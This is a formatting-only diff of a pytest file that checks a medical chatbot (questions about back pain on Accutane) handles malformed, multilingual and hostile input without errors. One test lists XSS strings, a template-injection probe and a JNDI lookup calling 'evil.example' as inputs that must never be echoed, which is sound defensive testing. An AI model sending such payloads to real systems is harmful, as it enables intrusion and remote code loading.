@@ -1,4 +1,5 @@
 """Bad input gets a clear, polite reply, never a server error, never raw HTML back."""
+
 from __future__ import annotations
 
 import httpx
@@ -22,7 +23,9 @@ def test_twenty_thousand_characters_are_truncated_with_a_notice(chat, catalogue)
 
 
 def test_control_characters_inside_text_are_ignored(chat, catalogue):
-    assert catalogue.answers["prevalence_overview"].text in chat.said("how\x00 common\x1b[31m is back pain\x07 on accutane")
+    assert catalogue.answers["prevalence_overview"].text in chat.said(
+        "how\x00 common\x1b[31m is back pain\x07 on accutane"
+    )
 
 
 def test_a_red_flag_at_the_end_of_a_huge_message_still_escalates(chat):
@@ -31,13 +34,16 @@ def test_a_red_flag_at_the_end_of_a_huge_message_still_escalates(chat):
     assert "emergency" in texts[0].lower()
 
 
-@pytest.mark.parametrize("message", [
-    "<script>alert('x')</script>",
-    "<img src=x onerror=alert(1)>",
-    "<b>why</b> does <i>accutane</i> hurt my back",
-    "${jndi:ldap://evil.example/a}",
-    "{{7*7}} {% raw %}",
-])
+@pytest.mark.parametrize(
+    "message",
+    [
+        "<script>alert('x')</script>",
+        "<img src=x onerror=alert(1)>",
+        "<b>why</b> does <i>accutane</i> hurt my back",
+        "${jndi:ldap://evil.example/a}",
+        "{{7*7}} {% raw %}",
+    ],
+)
 def test_markup_and_template_strings_are_never_echoed(chat, message):
     reply = chat.send(message)
     assert reply
@@ -46,23 +52,30 @@ def test_markup_and_template_strings_are_never_echoed(chat, message):
         assert "<script" not in text and "<img" not in text and "jndi" not in text and "{{" not in text
 
 
-@pytest.mark.parametrize("message", [
-    "me duele mucho la espalda por el accutane",
-    "j'ai mal au dos depuis que je prends du roaccutane",
-    "у меня болит спина от роаккутана",
-    "我吃异维A酸后腰疼",
-])
+@pytest.mark.parametrize(
+    "message",
+    [
+        "me duele mucho la espalda por el accutane",
+        "j'ai mal au dos depuis que je prends du roaccutane",
+        "у меня болит спина от роаккутана",
+        "我吃异维A酸后腰疼",
+    ],
+)
 def test_other_languages_get_an_english_only_reply(chat, message):
     assert chat.texts(message)[0] == "Sorry, I can only answer in English for now."
 
 
-@pytest.mark.parametrize("body, content_type", [
-    (b"{not json", "application/json"),
-    (b"", "application/json"),
-    (b'{"sender": "x"}', "application/json"),
-    (b"message=hi", "application/x-www-form-urlencoded"),
-])
+@pytest.mark.parametrize(
+    "body, content_type",
+    [
+        (b"{not json", "application/json"),
+        (b"", "application/json"),
+        (b'{"sender": "x"}', "application/json"),
+        (b"message=hi", "application/x-www-form-urlencoded"),
+    ],
+)
 def test_malformed_requests_never_get_a_server_error(rasa_server, body, content_type):
-    reply = httpx.post(f"{rasa_server.url}/webhooks/rest/webhook", content=body,
-                       headers={"Content-Type": content_type}, timeout=30)
+    reply = httpx.post(
+        f"{rasa_server.url}/webhooks/rest/webhook", content=body, headers={"Content-Type": content_type}, timeout=30
+    )
     assert reply.status_code < 500
